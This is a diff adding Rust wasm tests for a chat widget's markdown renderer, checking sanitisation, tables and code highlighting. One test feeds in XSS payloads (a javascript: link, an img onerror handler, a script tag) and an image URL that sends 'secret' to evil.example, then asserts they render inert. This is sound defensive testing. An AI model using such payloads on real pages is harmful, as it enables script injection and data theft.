@@ -49,3 +49,68 @@ fn chinese_strings_are_used_when_asked() {
     let send = el.query_selector("button.cf-send").unwrap().unwrap();
     assert_eq!(send.text_content().unwrap().trim(), "发送");
 }
+
+fn mount_markdown(text: &str) -> web_sys::HtmlElement {
+    use confab::chat::Chat;
+    use confab::markdown_view::MessageBody;
+    use confab_core::conversation::Conversation;
+    let el = container();
+    let text = text.to_string();
+    leptos::mount::mount_to(el.clone(), move || {
+        provide_context(Chat::new(
+            WidgetConfig::default(),
+            Lang::En,
+            Conversation::new("t".into(), 0.0),
+        ));
+        view! { <MessageBody text=Signal::stored(text) streaming=false /> }
+    })
+    .forget();
+    el
+}
+
+#[wasm_bindgen_test]
+fn hostile_markdown_becomes_text_without_handlers_or_unsafe_urls() {
+    let el = mount_markdown(
+        "[x](javascript:alert(1)) <img src=x onerror=alert(1)> ![p](https://evil.example/?q=secret)\n\n\
+         <script>alert(2)</script>\n\n[ok](https://example.com)",
+    );
+    assert!(el
+        .query_selector("script, img, [onerror]")
+        .unwrap()
+        .is_none());
+    assert!(el.query_selector("a[href^=javascript]").unwrap().is_none());
+    let text = el.text_content().unwrap();
+    assert!(text.contains("<img src=x onerror=alert(1)>"), "{text}");
+    assert!(text.contains("<script>alert(2)</script>"), "{text}");
+    let placeholder = el.query_selector(".cf-image-placeholder").unwrap().unwrap();
+    assert!(placeholder.text_content().unwrap().contains("evil.example"));
+    let link = el.query_selector("a").unwrap().unwrap();
+    assert_eq!(
+        link.get_attribute("href").as_deref(),
+        Some("https://example.com")
+    );
+    assert_eq!(
+        link.get_attribute("rel").as_deref(),
+        Some("noopener noreferrer nofollow")
+    );
+}
+
+#[wasm_bindgen_test]
+fn tables_and_highlighted_code_render_as_elements() {
+    let el = mount_markdown(
+        "| a | b |\n|:--|--:|\n| 1 | 2 |\n\n```rust\nfn main() { let x = 1; }\n```\n",
+    );
+    let th = el.query_selector("th").unwrap().unwrap();
+    assert_eq!(
+        th.get_attribute("style").as_deref(),
+        Some("text-align:left")
+    );
+    assert!(el.query_selector("td").unwrap().is_some());
+    let kw = el.query_selector(".cf-code .cf-tok-kw").unwrap().unwrap();
+    assert_eq!(kw.text_content().as_deref(), Some("fn"));
+    let copy = el.query_selector(".cf-code-copy").unwrap().unwrap();
+    assert_eq!(
+        copy.get_attribute("aria-label").as_deref(),
+        Some("Copy code")
+    );
+}
